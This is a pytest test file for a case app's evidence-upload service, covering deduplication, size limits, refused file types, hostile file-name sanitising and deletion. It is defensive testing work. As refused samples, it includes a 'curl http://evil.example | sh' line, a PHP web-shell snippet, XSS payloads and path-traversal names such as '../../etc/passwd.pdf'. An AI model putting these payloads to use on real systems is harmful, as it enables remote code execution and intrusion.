"""The evidence service: uploads, deduplication, limits, refused types, hostile names,
the no-orphan guarantee, deletion. (Links to POA versions and the bundle: tests/services/poa.)"""
from __future__ import annotations

import hashlib
import io
import unicodedata

import pytest
from sqlalchemy.exc import OperationalError
from werkzeug.datastructures import FileStorage

from caseapp.extensions import db
from caseapp.models import CaseEvent, Evidence, PoaEvidenceLink
from caseapp.services.evidence import files as evidence
from caseapp.services.poa import bundle as poa_bundle
from caseapp.services.poa import drafts
from caseapp.services.poa import links as poa_links
from caseapp.core.errors import Forbidden, NotFound, ValidationFailed
from caseapp.services.evidence.storage import LocalStorage, TooLarge
from caseapp.services.evidence.file_types import ALLOWED_TYPES_TEXT, RefusedType
from tests.conftest import make_case, make_client

MB = 1024 * 1024
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(64))
TEXT = "Order 1142 was refunded on 3 March.\n".encode()


def upload_file(data: bytes, name: str = "invoice.pdf") -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=name)


def upload(world, data: bytes = PDF, name: str = "invoice.pdf", actor=None, case=None, **fields):
    return evidence.upload(actor or world.consultant_a, (case or world.case_a).id,
                           upload_file(data, name), **fields)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def stored_blobs(app) -> list[str]:
    """Every file in the store, uploads in progress included (their names start with upload-)."""
    root = LocalStorage(app.config["EVIDENCE_DIR"]).root
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.exists() else []


def second_case(world):
    """Another case of the agency: the same bytes are attached to one case once."""
    return make_case(world.consultant_a, world.client_a, title="Second case")


def rows() -> list[Evidence]:
    db.session.expire_all()
    return list(db.session.scalars(db.select(Evidence).order_by(Evidence.id)))


def events(case, kind: str) -> list[CaseEvent]:
    return list(db.session.scalars(db.select(CaseEvent).where(
        CaseEvent.case_id == case.id, CaseEvent.kind == kind).order_by(CaseEvent.id)))


# ---------------------------------------------------------------- upload

def test_upload_stores_the_file_under_its_sha256_and_records_it(app, world):
    row = upload(world, category="invoice", description="  Supplier invoice, March  ")
    assert (row.filename, row.size, row.sha256) == ("invoice.pdf", len(PDF), sha(PDF))
    assert (row.content_type, row.category) == ("application/pdf", "invoice")
    assert row.description == "Supplier invoice, March"
    assert row.uploaded_by_id == world.consultant_a.id and row.uploaded_at is not None
    assert stored_blobs(app) == [sha(PDF)]
    with evidence.get_storage().open(row.sha256) as stored:
        assert stored.read() == PDF


def test_upload_adds_a_timeline_entry(world):
    row = upload(world, name="refund-log.txt", data=TEXT, category="customer_correspondence")
    [event] = events(world.case_a, "evidence_added")
    assert event.summary == "Evidence added: refund-log.txt (Customer correspondence)"
    assert event.actor_id == world.consultant_a.id
    assert event.data == {"evidence_id": row.id, "filename": "refund-log.txt",
                          "category": "customer_correspondence"}


def test_the_type_comes_from_the_content_not_the_name(world):
    assert upload(world, PDF, "scan.txt").content_type == "application/pdf"
    assert upload(world, PNG, "photo.pdf").content_type == "image/png"
    assert upload(world, TEXT, "notes.png").content_type == "text/plain"


def test_category_defaults_to_other_and_is_checked(app, world):
    assert upload(world).category == "other"
    with pytest.raises(ValidationFailed) as refused:
        upload(world, category="bank_statement")
    assert "Supplier letter" in refused.value.fields["category"]
    assert len(rows()) == 1 and stored_blobs(app) == [sha(PDF)]


def test_description_is_limited(app, world):
    with pytest.raises(ValidationFailed) as refused:
        upload(world, PNG, description="x" * 2001)
    assert refused.value.fields == {"description": "At most 2,000 characters."}
    assert rows() == [] and stored_blobs(app) == []


def test_no_file_is_a_validation_error(world):
    with pytest.raises(ValidationFailed) as refused:
        evidence.upload(world.consultant_a, world.case_a.id, FileStorage(io.BytesIO(b""), ""))
    assert refused.value.fields == {"file": "Choose a file to upload."}


def test_same_file_on_two_cases_is_one_blob_and_two_rows(app, world):
    first = upload(world, PDF, "invoice.pdf")
    second = upload(world, PDF, "invoice-copy.pdf", case=second_case(world))
    assert first.id != second.id and first.sha256 == second.sha256
    assert stored_blobs(app) == [sha(PDF)]
    assert [r.filename for r in rows()] == ["invoice.pdf", "invoice-copy.pdf"]


def test_same_file_twice_on_one_case_is_already_attached_and_adds_no_row(app, world):
    first = upload(world, PDF, "invoice.pdf")
    with pytest.raises(evidence.AlreadyAttached) as refused:
        upload(world, PDF, "invoice-copy.pdf", description="sent again by the supplier")
    assert refused.value.status == 409
    assert refused.value.existing == ("evidence", first.id, "file")
    assert "Already attached to this case as invoice.pdf" in refused.value.message
    assert [r.filename for r in rows()] == ["invoice.pdf"]
    assert len(events(world.case_a, "evidence_added")) == 1
    assert stored_blobs(app) == [sha(PDF)]  # the first file's bytes stay


def test_same_file_in_two_agencies_is_still_one_blob(app, world):
    case_b = make_case(world.consultant_b, make_client(world.consultant_b, name="Other seller"))
    upload(world, PDF)
    upload(world, PDF, actor=world.consultant_b, case=case_b)
    assert stored_blobs(app) == [sha(PDF)]
    assert len(rows()) == 2


def test_upload_many_keeps_the_good_files_and_says_which_were_refused(app, world):
    result = evidence.upload_many(world.consultant_a, world.case_a.id, [
        upload_file(PDF, "invoice.pdf"), upload_file(b"<html>hi</html>", "../page.pdf"),
        upload_file(PNG, "listing.png"), FileStorage(io.BytesIO(b""), "")], "invoice", "March")
    assert [r.filename for r in result.saved] == ["invoice.pdf", "listing.png"]
    [(name, error)] = result.refused
    assert name == "page.pdf" and isinstance(error, RefusedType)
    assert [(r.filename, r.description) for r in rows()] == [("invoice.pdf", "March"), ("listing.png", "March")]
    assert stored_blobs(app) == sorted([sha(PDF), sha(PNG)])


@pytest.mark.parametrize("files,fields,error", [
    ([], {}, {"files": "Choose one or more files to upload."}),
    ([FileStorage(io.BytesIO(b""), "")], {}, {"files": "Choose one or more files to upload."}),
    ([upload_file(PDF)], {"category": "receipt"}, "category"),
    ([upload_file(PDF)], {"description": "x" * 2001}, "description"),
])
def test_upload_many_checks_the_shared_fields_before_storing_anything(app, world, files, fields, error):
    with pytest.raises(ValidationFailed) as refused:
        evidence.upload_many(world.consultant_a, world.case_a.id, files, **fields)
    assert refused.value.fields == error if isinstance(error, dict) else list(refused.value.fields) == [error]
    assert rows() == [] and stored_blobs(app) == []


# ---------------------------------------------------------------- size limit

def test_a_file_at_the_limit_is_accepted(app, world):
    app.config["MAX_UPLOAD_MB"] = 1
    assert upload(world, b"a" * MB, "log.txt").size == MB


def test_a_file_over_the_limit_is_refused_and_leaves_nothing(app, world):
    app.config["MAX_UPLOAD_MB"] = 1
    with pytest.raises(TooLarge) as refused:
        upload(world, b"a" * (MB + 1), "log.txt")
    assert refused.value.status == 413
    assert refused.value.message == "The file is larger than the 1 MB limit."
    assert rows() == [] and stored_blobs(app) == []
    assert events(world.case_a, "evidence_added") == []


# ---------------------------------------------------------------- refused types

REFUSED = {
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "shell script": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "javascript": b"const steal = () => fetch('/api');\nsteal();\n",
    "php": b"Totally an invoice <?php system($_GET['c']); ?>",
    "linux program": b"\x7fELF\x02\x01\x01\x00" + bytes(120),
    "windows program": b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120),
}


@pytest.mark.parametrize("name", ["invoice.pdf", "photo.png", "notes.txt", "page.html", "noextension"])
@pytest.mark.parametrize("kind", list(REFUSED))
def test_dangerous_types_are_refused_whatever_the_name(app, world, kind, name):
    with pytest.raises(RefusedType) as refused:
        upload(world, REFUSED[kind], name)
    assert refused.value.status == 415
    assert refused.value.message.endswith(f"Accepted file types: {ALLOWED_TYPES_TEXT}.")
    assert rows() == [] and stored_blobs(app) == []
    assert events(world.case_a, "evidence_added") == []


# ---------------------------------------------------------------- hostile file names

HOSTILE_NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\Windows\\system32\\invoice.pdf": "invoice.pdf",
    "/var/www/evidence/../../invoice.pdf": "invoice.pdf",
    "inv\x00oice.pdf": "invoice.pdf",
    "in\x07vo\x1bice\x7f.pdf": "invoice.pdf",
    "invoice\u202efdp.exe": "invoicefdp.exe",
    "\u200finvoice\u2066.pdf": "invoice.pdf",
    "line\nbreak\tname.pdf": "line break name.pdf",
    "...": "file",
    ".": "file",
    "..": "file",
    " . . ": "file",
}


@pytest.mark.parametrize("raw,expected", list(HOSTILE_NAMES.items()))
def test_hostile_names_are_stored_as_safe_display_names(app, world, raw, expected):
    row = upload(world, PDF, raw)
    assert rows()[0].filename == expected == row.filename
    assert stored_blobs(app) == [sha(PDF)]  # stored under the digest, never under the name


def test_a_300_character_name_is_cut_to_200_keeping_the_extension(world):
    row = upload(world, PDF, "A" * 300 + ".pdf")
    assert rows()[0].filename == "A" * 196 + ".pdf"
    assert len(row.filename) == 200


def test_no_stored_name_has_separators_controls_or_direction_marks(world):
    for number, raw in enumerate(HOSTILE_NAMES):
        upload(world, PDF + b"\n%" + str(number).encode(), raw)  # other bytes each: one case
    for row in rows():
        assert "/" not in row.filename and "\\" not in row.filename
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in row.filename), row.filename
        assert row.filename.strip(". ") != ""


# ---------------------------------------------------------------- the no-orphan guarantee

@pytest.fixture
def failing_commit(monkeypatch):
    """Make the next commit fail at the database, as a full disk or a lost connection would."""
    real_commit = db.session.commit
    failures = []

    def commit():
        if not failures:
            failures.append("failed")
            raise OperationalError("COMMIT", {}, Exception("database or disk is full"))
        return real_commit()

    monkeypatch.setattr(db.session, "commit", commit)
    return failures


def test_a_failed_database_write_leaves_neither_row_nor_blob(app, world, failing_commit):
    with pytest.raises(OperationalError):
        upload(world, PDF, "invoice.pdf")
    assert failing_commit == ["failed"]
    assert rows() == []
    assert stored_blobs(app) == []  # not the blob, not a temporary file either
    assert events(world.case_a, "evidence_added") == []


def test_a_failed_write_keeps_a_blob_that_another_row_uses(app, world, monkeypatch):
    first = upload(world, PDF, "invoice.pdf")
    real_commit = db.session.commit
    calls = []

    def commit():
        calls.append(1)
        if len(calls) == 1:
            raise OperationalError("COMMIT", {}, Exception("database or disk is full"))
        return real_commit()

    monkeypatch.setattr(db.session, "commit", commit)
    with pytest.raises(OperationalError):
        upload(world, PDF, "invoice-again.pdf", case=second_case(world))
    assert [r.id for r in rows()] == [first.id]
    assert stored_blobs(app) == [sha(PDF)]


def test_cleanup_removes_a_blob_only_when_no_row_refers_to_it(app, world):
    row = upload(world, PDF)
    storage = evidence.get_storage()
    evidence._remove_if_unreferenced(storage, row.sha256)
    assert storage.exists(row.sha256)  # a row uses it
    other = storage.put(io.BytesIO(PNG), MB)
    evidence._remove_if_unreferenced(storage, other.sha256)
    assert not storage.exists(other.sha256)  # nothing uses it


def test_upload_stores_the_bytes_again_when_a_concurrent_delete_removed_them(app, world, monkeypatch):
    """Between our put (which found the blob there) and our commit, a delete of the last
    other row removed the blob. The new row must not point at nothing."""
    upload(world, PDF, "invoice.pdf")

    class VanishingOnce(LocalStorage):
        vanished = False

        def put(self, stream, max_bytes):
            blob = super().put(stream, max_bytes)
            if not VanishingOnce.vanished:
                VanishingOnce.vanished = True
                self.delete(blob.sha256)
            return blob

    monkeypatch.setattr(evidence, "get_storage", lambda: VanishingOnce(app.config["EVIDENCE_DIR"]))
    row = upload(world, PDF, "invoice-again.pdf", case=second_case(world))
    assert VanishingOnce.vanished
    with evidence.get_storage().open(row.sha256) as stored:
        assert stored.read() == PDF


# ---------------------------------------------------------------- reading, editing, deleting

def test_list_for_case_is_newest_first_with_the_uploader(world):
    first = upload(world, PDF, "a.pdf")
    second = upload(world, PNG, "b.png", actor=world.admin_a)
    listed = evidence.list_for_case(world.consultant_a, world.case_a.id)
    assert [r.id for r in listed] == [second.id, first.id]
    assert listed[0].uploaded_by.name == "Ada Admin"


def test_another_agency_cannot_reach_a_file(world):
    row = upload(world)
    for call in (lambda: evidence.get(world.admin_b, row.id),
                 lambda: evidence.open_file(world.admin_b, row.id),
                 lambda: evidence.update(world.admin_b, row.id, "planted"),
                 lambda: evidence.delete(world.admin_b, row.id),
                 lambda: evidence.list_for_case(world.admin_b, world.case_a.id),
                 lambda: evidence.upload(world.admin_b, world.case_a.id, upload_file(PDF)),
                 lambda: poa_bundle.bundle(world.admin_b, world.case_a.id)):
        with pytest.raises(NotFound):
            call()
    assert [(r.id, r.description) for r in rows()] == [(row.id, "")]


def test_update_changes_description_and_category(world):
    row = upload(world)
    evidence.update(world.consultant_a, row.id, "Invoice from Acme Wholesale\r\nMarch 2026", "invoice")
    assert (rows()[0].description, rows()[0].category) == ("Invoice from Acme Wholesale\nMarch 2026", "invoice")
    evidence.update(world.consultant_a, row.id, "Only the description")
    assert (rows()[0].description, rows()[0].category) == ("Only the description", "invoice")
    with pytest.raises(ValidationFailed):
        evidence.update(world.consultant_a, row.id, "x" * 2001)
    assert rows()[0].description == "Only the description"


def test_only_an_admin_deletes(app, world):
    row = upload(world)
    with pytest.raises(Forbidden):
        evidence.delete(world.consultant_a, row.id)
    assert len(rows()) == 1 and stored_blobs(app) == [sha(PDF)]


def test_deleting_one_of_two_rows_keeps_the_blob_and_the_last_removes_it(app, world):
    first = upload(world, PDF, "invoice.pdf")
    second = upload(world, PDF, "invoice-copy.pdf", case=second_case(world))
    gone = evidence.delete(world.admin_a, first.id)
    assert (gone.filename, gone.case_id) == ("invoice.pdf", world.case_a.id)
    assert [r.id for r in rows()] == [second.id]
    assert stored_blobs(app) == [sha(PDF)]
    evidence.delete(world.admin_a, second.id)
    assert rows() == [] and stored_blobs(app) == []


def test_delete_is_on_the_timeline_and_removes_links(world):
    row = upload(world, PDF, "invoice.pdf", category="invoice")
    draft = drafts.start_from_starter(world.consultant_a, world.case_a.id)
    poa_links.link(world.consultant_a, draft.id, row.id)
    evidence.delete(world.admin_a, row.id)
    [event] = events(world.case_a, "evidence_deleted")
    assert event.summary == "Evidence deleted: invoice.pdf" and event.actor_id == world.admin_a.id
    assert event.data["evidence_id"] == row.id
    assert db.session.scalars(db.select(PoaEvidenceLink)).all() == []


def test_a_failing_blob_removal_does_not_undo_the_delete(app, world, monkeypatch):
    row = upload(world)

    class Stubborn(LocalStorage):
        def delete(self, sha256):
            raise PermissionError("read-only file system")

    monkeypatch.setattr(evidence, "get_storage", lambda: Stubborn(app.config["EVIDENCE_DIR"]))
    evidence.delete(world.admin_a, row.id)
    assert rows() == []
    assert stored_blobs(app) == [sha(PDF)]  # left unused on disk, never a row without a file
